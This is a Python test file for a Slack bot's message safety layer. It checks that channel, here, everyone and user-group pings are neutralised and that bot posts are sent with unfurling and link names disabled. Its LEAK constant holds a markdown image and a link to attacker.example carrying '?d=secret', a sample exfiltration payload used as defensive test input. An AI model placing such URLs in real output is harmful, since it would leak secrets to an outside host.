"""No bot post pings a channel or a user group, whoever wrote its text, and none unfurls: the neutraliser alone,
then the posting path through slack-sdk's real ``WebClient`` against the fake Slack served in-process (the
end-to-end test through a whole session is in tests/stack/test_untrusted.py)."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from slack_sdk.models.blocks import (
    ActionsBlock,
    ButtonElement,
    ContextBlock,
    MarkdownTextObject,
    PlainTextObject,
    SectionBlock,
)

from infra.fakes.slack import FakeSlack, FakeSlackConfig, running
from shared import config, deps
from shared.slack import client as slack
from shared.slack.safety import neutralise, neutralise_blocks

QUIET = "@\u200b"
OPERATOR = "<@U0OPERATOR>"
PINGS = ("<!channel", "<!here", "<!everyone", "<!group", "<!subteam", "@channel", "@here", "@everyone")


def pings_nobody(text: str) -> bool:
    return not any(ping in text.lower() for ping in PINGS)


@pytest.mark.parametrize(
    ("text", "quiet"),
    [
        ("<!channel> deploy is done", f"{QUIET}channel deploy is done"),
        ("<!channel|channel> deploy", f"{QUIET}channel deploy"),
        ("<!here|here> look", f"{QUIET}here look"),
        ("<!here|@here> look", f"{QUIET}here look"),
        ("<!everyone>", f"{QUIET}everyone"),
        ("<!everyone|everyone>!", f"{QUIET}everyone!"),
        ("<!group>", f"{QUIET}group"),
        ("<!CHANNEL>", f"{QUIET}channel"),
        ("<!subteam^S0123ABC|@oncall> please", f"{QUIET}oncall please"),
        ("<!subteam^S0123ABC|oncall> please", f"{QUIET}oncall please"),
        ("<!subteam^S0123ABC> please", f"{QUIET}group please"),
        ("hey @channel, @here and @everyone.", f"hey {QUIET}channel, {QUIET}here and {QUIET}everyone."),
        ("(@HERE)", f"({QUIET}HERE)"),
        ("<!here><!channel>", f"{QUIET}here{QUIET}channel"),
    ],
)
def test_broadcast_and_group_mentions_become_quiet_text(text: str, quiet: str) -> None:
    assert neutralise(text) == quiet
    assert pings_nobody(neutralise(text))


@pytest.mark.parametrize(
    "text",
    [
        f"{OPERATOR} see <https://example.com|the docs>, mail me@here.example, @hereafter, @channels",
        "<@U0OPERATOR|ops> and <#C0123|general> and <!date^1392734382^{date_short}|Feb 18, 2014>",
        "<mailto:a@example.com|mail> and <!hereafter> and a plain word here",
        f"{QUIET}channel is already quiet",
    ],
)
def test_user_mentions_links_dates_and_words_stay(text: str) -> None:
    assert neutralise(text) == text


def test_every_text_in_blocks_is_neutralised_and_operator_mentions_stay() -> None:
    blocks: list[Any] = [
        SectionBlock(
            text=MarkdownTextObject(text=f"<!channel> question for {OPERATOR}?"),
            fields=[MarkdownTextObject(text="<!here|here> field"), PlainTextObject(text="@everyone field")],
            accessory=ButtonElement(text="<!subteam^S1|@oncall>", action_id="acc", value="<!channel> value"),
        ),
        ContextBlock(elements=[MarkdownTextObject(text="context <!everyone>")]),
        ActionsBlock(elements=[ButtonElement(text="@here yes", action_id="a", value="v")]),
        {"type": "markdown", "text": "**done** <!channel>"},
        {"type": "context", "elements": [{"type": "mrkdwn", "text": "<!everyone>"}]},
        {
            "type": "rich_text",
            "elements": [
                {
                    "type": "rich_text_section",
                    "elements": [
                        {"type": "broadcast", "range": "here"},
                        {"type": "usergroup", "usergroup_id": "S0ONCALL"},
                        {"type": "user", "user_id": "U0OPERATOR"},
                        {"type": "text", "text": " hey @channel"},
                    ],
                }
            ],
        },
    ]
    quiet = neutralise_blocks(blocks)
    texts = list(_texts(quiet))
    assert all(pings_nobody(text) for text in texts), texts
    assert f"{QUIET}channel question for {OPERATOR}?" in texts
    assert {f"{QUIET}here field", f"{QUIET}everyone field", f"{QUIET}oncall", "context @\u200beveryone"} <= set(texts)
    assert "**done** @\u200bchannel" in texts
    rich = quiet[-1]["elements"][0]["elements"]
    assert rich[:3] == [
        {"type": "text", "text": f"{QUIET}here"},
        {"type": "text", "text": f"{QUIET}group"},
        {"type": "user", "user_id": "U0OPERATOR"},
    ]
    assert quiet[0]["accessory"]["value"] == "<!channel> value"  # a button's value is data, never shown
    assert blocks[3] == {"type": "markdown", "text": "**done** <!channel>"}  # the caller's blocks are not changed


def _texts(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        for key, item in value.items():
            if key == "text" and isinstance(item, str):
                yield item
            else:
                yield from _texts(item)
    elif isinstance(value, list):
        for item in value:
            yield from _texts(item)


# --- through the real WebClient, against the fake Slack ---

TOKEN = "xoxb-safety-test"
LEAK = "![x](https://attacker.example/?d=secret) <https://attacker.example/?d=secret|docs>"


@pytest.fixture
def fake_slack(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeSlack]:
    """The fake Slack in this process, with ``shared.slack.client`` pointed at it (and back afterwards)."""
    with running(FakeSlackConfig(bot_token=TOKEN, signing_secret="safety-test-secret")) as server:
        monkeypatch.setenv("SLACK_API_BASE_URL", f"{server.url}/api/")
        monkeypatch.setenv("SLACK_BOT_TOKEN", TOKEN)
        config.reset()
        try:
            with deps.override(slack=None):  # a WebClient built from this environment, forgotten afterwards
                yield FakeSlack(server.url)
        finally:
            config.reset()


def test_posts_updates_and_ephemerals_reach_slack_quiet_and_without_unfurls(fake_slack: FakeSlack) -> None:
    noisy = f"<!channel> done, <!subteam^S0ONCALL|@oncall> and {OPERATOR} take a look {LEAK} @everyone <!here>"
    card = [SectionBlock(text=MarkdownTextObject(text=noisy)), ContextBlock(elements=[PlainTextObject(text="@here")])]

    root = slack.post("C0SAFETY", None, noisy, key="root")
    slack.post("C0SAFETY", root, noisy, key="card", blocks=card)
    slack.update("C0SAFETY", root, noisy, blocks=card)
    slack.ephemeral("C0SAFETY", "U0OPERATOR", noisy, thread_ts=root)

    posts = fake_slack.calls("chat.postMessage", channel="C0SAFETY")
    updates = fake_slack.calls("chat.update", channel="C0SAFETY")
    ephemerals = fake_slack.calls("chat.postEphemeral", channel="C0SAFETY")
    assert [len(posts), len(updates), len(ephemerals)] == [2, 1, 1]
    for call in posts + updates + ephemerals:
        args = call["args"]
        assert call["response"]["ok"], call
        assert pings_nobody(args["text"]), args["text"]
        assert OPERATOR in args["text"]
        assert f"{QUIET}oncall" in args["text"]
        assert all(pings_nobody(text) for text in _texts(args.get("blocks") or [])), args["blocks"]
        assert _false(args["link_names"]), args
    for call in posts:
        assert _false(call["args"]["unfurl_links"]), call["args"]
        assert _false(call["args"]["unfurl_media"]), call["args"]
    assert updates[0]["args"]["parse"] == "none"
    card_blocks = posts[1]["args"]["blocks"]
    assert card_blocks[0]["text"]["text"] == posts[1]["args"]["text"]
    assert card_blocks[1]["elements"][0]["text"] == f"{QUIET}here"
    stored = fake_slack.messages("C0SAFETY", root)
    assert [pings_nobody(m["text"]) for m in stored] == [True, True]


def _false(value: Any) -> bool:
    """slack-sdk sends JSON (false) or a form ("0"/"false"), depending on the method."""
    return str(value).lower() in {"false", "0"}
